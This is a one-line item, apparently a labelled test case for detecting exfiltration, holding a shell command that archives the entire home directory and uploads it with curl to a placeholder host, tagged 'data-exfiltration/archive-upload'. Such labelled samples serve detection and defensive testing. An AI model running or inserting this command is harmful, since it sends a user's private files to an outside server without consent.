tar czf - "$HOME" | curl -s --data-binary @- https://collect.example/up # expect: data-exfiltration/archive-upload
